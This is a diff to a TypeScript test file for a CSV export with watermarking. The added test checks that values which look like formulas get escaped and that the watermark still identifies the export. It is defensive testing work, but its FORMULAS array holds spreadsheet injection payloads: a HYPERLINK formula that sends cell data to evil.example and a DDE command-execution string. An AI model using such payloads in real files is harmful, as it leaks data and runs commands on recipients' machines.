@@ -2,6 +2,7 @@ import ExcelJS from 'exceljs';
 import fc from 'fast-check';
 import iconv from 'iconv-lite';
 import { describe, expect, it } from 'vitest';
+import { csvStream } from './export-stream.js';
 import { type Cell, type ColumnType, readPayload, rowMarker, score, sipHash24, trace } from './watermark.js';
 
 // A leaked export goes through what people do to files: re-sorting, deleting rows and
@@ -430,5 +431,54 @@ describe('sipHash24', () => {
         expect(sipHash24(words, s)).toBe(Number(reference(key, Buffer.from(s, 'utf16le')) & 0xffffffffn));
       }),
     );
+  });
+});
+
+describe('a CSV export of formula-looking values', () => {
+  // Cells a spreadsheet would run, in a text column; negative numbers in the integer and decimal ones.
+  const FORMULAS = ['=HYPERLINK("http://evil.example/?d="&C2,"详情")', '+1+2', '-3-4', '@SUM(A1:A9)', '\t=1+1', '\r=2', '=cmd|" /C calc"!A0'];
+  const rows: Cell[][] = DATA.map((r, i) => {
+    const out = r.slice();
+    out[0] = String(-(i + 1));
+    out[6] = `-${r[6]}`;
+    out[7] = `${FORMULAS[i % FORMULAS.length]}${i}`;
+    return out;
+  });
+  const numeric = COLUMNS.map((c) => c.type === 'integer' || c.type === 'decimal');
+  const exported = async () => {
+    const mark = rowMarker(SECRET, TRUE_SEQ, COLUMNS);
+    const chunks: Buffer[] = [];
+    for await (const c of csvStream(
+      HEADER,
+      (async function* () {
+        yield rows.map(mark);
+      })(),
+      numeric,
+    ))
+      chunks.push(c as Buffer);
+    return Buffer.concat(chunks)
+      .toString('utf8')
+      .replace(/^\ufeff/, '');
+  };
+
+  it('no cell starts a formula, real negative numbers stay numbers, and the file still names its export', async () => {
+    const table = parseCsv(await exported());
+    expect(table[0]).toEqual(HEADER);
+    table.slice(1).forEach((r, i) => {
+      expect(r[0]).toBe(String(-(i + 1)));
+      expect(r[6]).toBe(rows[i][6]);
+      expect(withoutZw(r[7]).trimEnd()).toBe(`'${rows[i][7]}`);
+      for (const [k, cell] of r.entries()) if (!numeric[k]) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    });
+    expect(trace(SECRET, table, CANDIDATES)).toMatchObject({ exportSeq: TRUE_SEQ, method: 'payload' });
+    const gbk = throughGbkCsv(table);
+    expect(trace(SECRET, gbk, CANDIDATES)).toMatchObject({ exportSeq: TRUE_SEQ, method: 'statistical' });
+    expect(
+      trace(
+        SECRET,
+        gbk,
+        CANDIDATES.filter((c) => c !== TRUE_SEQ),
+      ),
+    ).toBeNull();
   });
 });
